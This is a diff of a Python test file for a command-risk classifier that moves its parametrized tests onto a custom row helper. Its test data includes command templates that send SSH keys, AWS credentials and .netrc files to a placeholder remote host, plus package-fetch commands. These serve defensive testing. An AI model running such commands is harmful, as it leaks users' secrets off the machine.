@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+from itertools import product
+
 import pytest
+from tests.rows import each_row
 
 from assent import rules_table
 from assent.risk import Category
@@ -14,8 +17,7 @@ from .blocks import findings, worst
 SENT = ["{0} put ~/.ssh/id_rsa x://there", "{0} ~/.aws/credentials there:", "{0} --file=/home/user/.netrc x://there"]
 
 
-@pytest.mark.parametrize("frame", SENT)
-@pytest.mark.parametrize("program", sorted(rules_table.of_kind(GIVING)))
+@each_row("program frame", product(sorted(rules_table.of_kind(GIVING)), SENT))
 def test_a_secret_given_to_what_sends_files_leaves_the_machine(program: str, frame: str) -> None:
     found = worst(frame.format(program))
     assert found.category is Category.Destroys, found.reason
@@ -120,7 +122,7 @@ ALWAYS = {
 }
 
 
-@pytest.mark.parametrize("command", fetching())
+@each_row("command", fetching())
 def test_a_package_that_is_named_is_fetched_code_and_a_path_of_the_project_is_not(command: str) -> None:
     assert worst(f"{command} example.com/left-pad").category >= Category.RunsFetchedCode
     assert worst(f"{command} ./left-pad").category is not Category.RunsFetchedCode or command in ALWAYS
@@ -191,7 +193,7 @@ def test_a_task_whose_name_drops_what_is_stored_deletes_data(frame: str, task: s
     assert worst(frame.format(task)).category is Category.DeletesData
 
 
-@pytest.mark.parametrize("program", sorted(rules_table.of_kind("words code")))
+@each_row("program", sorted(rules_table.of_kind("words code")))
 def test_code_in_the_words_is_not_the_code_of_the_project(program: str) -> None:
     for option in rules_table.words(program, "code"):
         assert worst(f"{program} '{option}' 'x()'").category >= Category.Unrecognized
@@ -310,7 +312,7 @@ def of_files() -> list[str]:
     return [*reads, "pytest --help", "jest --version", "tox --version", "pulumi preview", "bazel info", "mix help"]
 
 
-@pytest.mark.parametrize("command", of_files())
+@each_row("command", of_files())
 def test_what_loads_files_only_to_read_is_a_read_in_the_project_alone(command: str) -> None:
     assert worst(command).category <= Category.ReadsRemote
     assert worst(f"cd sub && {command}").category <= Category.ReadsRemote
